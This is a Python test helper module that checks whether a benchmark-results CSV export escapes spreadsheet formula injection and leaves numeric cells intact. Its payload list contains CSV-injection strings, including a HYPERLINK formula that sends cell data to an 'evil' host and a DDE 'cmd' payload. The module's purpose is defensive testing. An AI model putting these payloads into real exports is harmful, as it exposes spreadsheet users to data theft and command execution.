"""Results an attacker controls (a benchmark's questions, ids, keywords, trait labels; a model's
name and reply; a run's name) whose every text field starts with a spreadsheet formula, and the
checks a CSV export of them must pass: no cell a spreadsheet would run, numbers left alone, and
with the raw opt-out every cell as it was. Shared by the unit (in-memory, CLI) and the store
(streamed) export tests."""

from __future__ import annotations

import csv
from pathlib import Path

from shared.core.models import (
    ModelIdentity,
    VerificationResult,
    VerificationResultMetadata,
    VerificationResultRubric,
    VerificationResultTemplate,
)

PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u3000=1",
]
TS = "2025-06-15T10:00:00Z"
# What a spreadsheet runs: a cell starting with one of these, or with whitespace and then one
# (written out here rather than taken from the code under test).
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# A cell each result carries, by column, as the CSV must hold it raw: the attacker's text.
ATTACKED_COLUMNS = ("question_id", "question_text", "raw_llm_response", "error", "run_name",
                    "answering_system_prompt", "parsing_system_prompt", "embedding_model_used", "template_id",
                    "answering_model_name", "parsing_model_name", "answering_interface", "label.tone")
# Numbers the results carry, by column, as the CSV must hold them whatever the mode: the
# reference's `rubric_<trait>` and `verify_granular_result` cells are numbers formatted as text.
NUMBER_CELLS = {"rubric_delta": "-2", "trait.delta": "-2.0", "verify_granular_result": "-1.5",
                "embedding_similarity_score": "-0.25", "trait.drift.score": "-1.5"}


def attack_result(payload: str, replicate: int) -> VerificationResult:
    """One result whose every untrusted text field is `payload`, with negative scores beside it."""
    answering = ModelIdentity(interface=payload, model_name=payload)
    parsing = ModelIdentity(interface="litellm", model_name=payload)
    meta = VerificationResultMetadata(
        question_id=payload, template_id=payload, question_text=payload, raw_answer=payload, keywords=[payload],
        answering=answering, parsing=parsing, answering_system_prompt=payload, parsing_system_prompt=payload,
        execution_time=1.0, timestamp=TS, run_name=payload, replicate=replicate, completed_without_errors=False,
        error=payload, evaluation_mode="template_and_rubric",
        result_id=VerificationResultMetadata.compute_result_id(payload, answering, parsing, TS, replicate),
    )
    template = VerificationResultTemplate(
        raw_llm_response=payload, parsed_gt_response={"target": payload}, parsed_llm_response={"target": payload},
        template_verification_performed=True, verify_result=False, verify_granular_result=-1.5,
        embedding_check_performed=True, embedding_similarity_score=-0.25, embedding_model_used=payload,
    )
    rubric = VerificationResultRubric(
        rubric_evaluation_performed=True, rubric_evaluation_strategy="batch",
        llm_trait_scores={"delta": -2}, llm_trait_labels={"tone": payload},
        metric_trait_scores={"drift": {"score": -1.5}},
        trait_provenance={"delta": "global", "drift": "question_specific"},
    )
    return VerificationResult(metadata=meta, template=template, rubric=rubric)


def attack_results() -> list[VerificationResult]:
    return [attack_result(p, i) for i, p in enumerate(PAYLOADS)]


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    """(header, rows) as Python's csv module reads the file."""
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        rows = list(reader)
    return list(reader.fieldnames or []), rows


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would take `cell` as a formula: a trigger first, or after whitespace
    (a cell that is a plain number is a number, whatever its sign)."""
    if not cell:
        return False
    try:
        float(cell)
        if cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "nan", "infinity"):
            return False
    except ValueError:
        pass
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(_TRIGGERS)


def check_escaped(path: Path, results: list[VerificationResult]) -> None:
    """The CSV at `path` (the default mode) has no cell a spreadsheet runs, each attacked cell is
    the attacker's text behind one `'`, and the numbers are as they were."""
    header, rows = read_csv(path)
    assert len(rows) == len(results) == len(PAYLOADS)
    assert not [c for c in header if runs_as_formula(c)]
    bad = [(row["result_id"], col, cell) for row in rows for col, cell in row.items() if runs_as_formula(cell)]
    assert not bad, (len(bad), bad[:5])
    by_qid = {r["question_id"][1:]: r for r in rows}  # the attacker's id, behind its quote
    assert sorted(by_qid) == sorted(PAYLOADS)
    for payload, row in by_qid.items():
        for col in ATTACKED_COLUMNS:
            assert row[col] == "'" + payload, (col, row[col])
        assert row["answering_model"] == f"'{payload}:{payload}"
        assert row["parsing_model"] == f"litellm:{payload}"  # text, but not a formula: as it is
        assert {col: row[col] for col in NUMBER_CELLS} == NUMBER_CELLS, payload


def check_raw(path: Path, results: list[VerificationResult]) -> None:
    """The CSV at `path` (the raw opt-out) holds every attacked cell exactly as the attacker wrote it."""
    _, rows = read_csv(path)
    assert len(rows) == len(results)
    by_qid = {r["question_id"]: r for r in rows}
    assert sorted(by_qid) == sorted(PAYLOADS)
    for payload, row in by_qid.items():
        for col in ATTACKED_COLUMNS:
            assert row[col] == payload, (col, row[col])
        assert row["question_text"] == payload and row["answering_model"] == f"{payload}:{payload}"
        assert {col: row[col] for col in NUMBER_CELLS} == NUMBER_CELLS, payload
